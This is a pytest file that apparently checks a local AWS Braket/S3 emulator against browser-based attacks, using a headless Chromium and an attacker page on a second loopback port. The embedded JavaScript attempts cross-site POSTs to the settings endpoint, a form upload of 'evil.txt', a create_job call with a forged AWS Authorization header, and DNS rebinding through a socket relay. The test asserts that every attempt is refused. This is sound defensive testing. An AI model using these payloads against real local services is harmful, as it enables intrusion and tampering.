"""A real web page attacks the local service from a headless Chromium, and gets nowhere."""

# A page served from a second loopback port stands in for a site the user visits. It tries
# what any page can: a simple cross-site POST to the settings, a form upload to S3, a
# preflighted create_job with an Authorization header, and DNS rebinding, for which
# Chromium's --host-resolver-rules sends attacker.test to a relay that forwards everything but
# the page itself to the service, as a rebound name would. The service's state is read
# afterwards to prove nothing changed.

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import socketserver
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Service

BUCKET = "browser-target"
INSTALL = "apt-get install chromium (Debian's package; .ci/run installs it)"


def chromium() -> str:
    """Debian's Chromium; a failure under CI, else a skip that says how to install it."""
    found = shutil.which("chromium")
    if found:
        return found
    if os.environ.get("CI") == "true":
        pytest.fail(f"Chromium is missing: {INSTALL}")
    pytest.skip(f"Chromium is not installed: {INSTALL}")


# What both pages share: where results go, and the forged headers and job they send.
COMMON = """const REPORT = "http://127.0.0.1:%(attacker)d/report";
const report = (name, value) =>
  fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify({name, value})});
const forged = {
  "Authorization": "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261207/us-east-1/braket/" +
    "aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0".repeat(64),
  "X-Amz-Date": "20261207T000000Z",
  "Content-Type": "application/json",
};
const job = %(job)s;
"""

ATTACK = """<!doctype html><body><script>
const S = "http://127.0.0.1:%(service)d";
%(common)s
async function run() {
  try {
    await fetch(S + "/_braket_local/settings", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({throttle_rate: 1, deny_access_keys: "everyone"})});
    await report("settings", "sent");
  } catch (e) { await report("settings", "error " + e.name); }
  await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "multipart/form-data"; form.target = "sink";
    form.action = S + "/%(bucket)s";
    const key = document.createElement("input");
    key.name = "key"; key.value = "pwned.txt"; form.appendChild(key);
    const file = document.createElement("input");
    file.type = "file"; file.name = "file";
    const files = new DataTransfer();
    files.items.add(new File(["evil"], "evil.txt"));
    file.files = files.files; form.appendChild(file);
    document.body.appendChild(form);
    frame.onload = resolve;
    setTimeout(resolve, 5000);
    form.submit();
  });
  await report("form", "submitted");
  try {
    const answer = await fetch(S + "/job", {method: "POST", headers: forged,
      body: JSON.stringify(job)});
    await report("create_job", "answered " + answer.status);
  } catch (e) { await report("create_job", "blocked " + e.name); }
  location.href = "http://attacker.test:%(service)d/rebind.html";
}
run();
</script></body>"""

REBIND = """<!doctype html><body><script>
%(common)s
async function run() {
  // Same origin now that the name leads to the service: no preflight, answers readable.
  try {
    const created = await fetch("/job", {method: "POST", headers: forged,
      body: JSON.stringify(job)});
    await report("rebind_create_job", created.status + " " + await created.text());
    const settings = await fetch("/_braket_local/settings", {method: "POST",
      body: JSON.stringify({throttle_rate: 1})});
    await report("rebind_settings", settings.status + " " + await settings.text());
  } catch (e) { await report("rebind_error", e.name + " " + e.message); }
  await report("done", "yes");
}
run();
</script></body>"""


class Attacker(socketserver.ThreadingTCPServer):
    """The attacker's site on a second loopback port: its pages, a report sink, and a relay."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, service_port: int, job: dict[str, Any]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.service_port = service_port
        self.job = job
        self.reports: dict[str, str] = {}
        self.done = threading.Event()

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def page(self, path: str) -> bytes | None:
        values = {"service": self.service_port, "attacker": self.port, "bucket": BUCKET}
        values["job"] = json.dumps(self.job)  # type: ignore[assignment]
        values["common"] = COMMON % values  # type: ignore[assignment]
        if path == "/attack.html":
            return (ATTACK % values).encode()
        if path == "/rebind.html":
            return (REBIND % values).encode()
        return None


class _Handler(socketserver.BaseRequestHandler):
    server: Attacker

    def handle(self) -> None:
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.request.recv(65536)
            if not chunk:
                return
            head += chunk
        line = head.split(b"\r\n", 1)[0].decode()
        path = line.split(" ")[1]
        host = next(
            (
                field.split(b":", 1)[1].strip().decode()
                for field in head.split(b"\r\n")
                if field.lower().startswith(b"host:")
            ),
            "",
        )
        page = self.server.page(path)
        if page is not None:
            self._answer(200, page, "text/html")
        elif path == "/report":
            self._report(head)
        elif host.startswith("attacker.test:"):
            self._relay(head)
        else:
            self._answer(404, b"", "text/plain")

    def _answer(self, status: int, body: bytes, kind: str) -> None:
        # Connection: close, so that the page's next request opens a connection of its own.
        self.request.sendall(
            f"HTTP/1.1 {status} OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
            "Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n".encode()
            + body
        )

    def _report(self, head: bytes) -> None:
        headers, _, body = head.partition(b"\r\n\r\n")
        length = next(
            (
                int(line.split(b":", 1)[1])
                for line in headers.split(b"\r\n")
                if line.lower().startswith(b"content-length:")
            ),
            0,
        )
        while len(body) < length:
            body += self.request.recv(65536)
        found = json.loads(body)
        self.server.reports[found["name"]] = found["value"]
        if found["name"] == "done":
            self.server.done.set()
        self._answer(204, b"", "text/plain")

    def _relay(self, head: bytes) -> None:
        """Forward the connection, bytes unchanged, to the service: the rebound name."""
        upstream = socket.create_connection(("127.0.0.1", self.server.service_port))
        upstream.sendall(head)

        def pipe(source: socket.socket, target: socket.socket) -> None:
            try:
                while chunk := source.recv(65536):
                    target.sendall(chunk)
            except OSError:
                pass
            finally:
                for end in (source, target):
                    with contextlib.suppress(OSError):
                        end.shutdown(socket.SHUT_RDWR)

        back = threading.Thread(target=pipe, args=(upstream, self.request), daemon=True)
        back.start()
        pipe(self.request, upstream)
        back.join(timeout=30)
        upstream.close()


@pytest.fixture
def attacker(new_service: Callable[..., Service]) -> Iterator[tuple[Attacker, Service]]:
    service = new_service()
    service.client("s3").create_bucket(Bucket=BUCKET)
    job = {
        "clientToken": uuid.uuid4().hex,
        "jobName": f"browser-{uuid.uuid4().hex[:8]}",
        "roleArn": "arn:aws:iam::123456789012:role/AmazonBraketJobsExecutionRole",
        "algorithmSpecification": {
            "scriptModeConfig": {"entryPoint": "evil:main", "s3Uri": f"s3://{BUCKET}/evil.tgz"}
        },
        "outputDataConfig": {"s3Path": f"s3://{BUCKET}/out"},
        "instanceConfig": {"instanceType": "ml.m5.large", "volumeSizeInGb": 30},
        "deviceConfig": {"device": "arn:aws:braket:::device/quantum-simulator/amazon/sv1"},
    }
    server = Attacker(service.port, job)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server, service
    server.shutdown()
    server.server_close()


def test_browser_page_attacks_refused_state_unchanged(
    attacker: tuple[Attacker, Service], tmp_path: Path
) -> None:
    browser = chromium()
    server, service = attacker
    settings_before = service.control("settings")
    calls_before = len(service.calls())
    log = (tmp_path / "chromium.log").open("w")
    process = subprocess.Popen(
        [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--enable-logging=stderr",  # the pages' console, in chromium.log
            f"--user-data-dir={tmp_path / 'profile'}",
            # The rebinding stand-in: attacker.test on the service's port reaches the
            # attacker first (its page), whose relay then forwards the rest to the service.
            f"--host-resolver-rules=MAP attacker.test:{service.port} 127.0.0.1:{server.port}",
            f"http://127.0.0.1:{server.port}/attack.html",
        ],
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        finished = server.done.wait(timeout=90)
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=30)
        log.close()
    assert finished, f"the page did not finish: {server.reports}"
    reports = server.reports
    # What the page saw: the preflight refused, so the forged create_job never left it.
    assert reports["settings"] == "sent"
    assert reports["form"] == "submitted"
    assert reports["create_job"] == "blocked TypeError"
    status, _, text = reports["rebind_create_job"].partition(" ")
    assert status == "403"
    assert json.loads(text)["message"].startswith(
        f"Host 'attacker.test:{service.port}' is not a name this local Braket service answers to"
    )
    assert reports["rebind_settings"].startswith("403 ")
    # What the service saw: each attempt arrived, and each was refused.
    seen = [
        (call["operation"], call["status"], call["code"])
        for call in service.calls()[calls_before:]
        if call["operation"].startswith("refused:")
    ]
    assert (
        "refused:unsigned:POST /_braket_local/settings",
        403,
        "AccessDeniedException",
    ) in seen
    assert ("refused:s3:POST /" + BUCKET, 403, "AccessDenied") in seen
    assert ("refused:unsigned:OPTIONS /job", 403, "AccessDeniedException") in seen
    assert ("refused:braket:POST /job", 403, "AccessDeniedException") in seen
    # And nothing changed: no job, no object, the same settings.
    assert not [c for c in service.calls()[calls_before:] if c["operation"] == "CreateJob"]
    assert service.client().search_jobs(filters=[])["jobs"] == []
    assert "Contents" not in service.client("s3").list_objects_v2(Bucket=BUCKET)
    assert service.control("settings") == settings_before
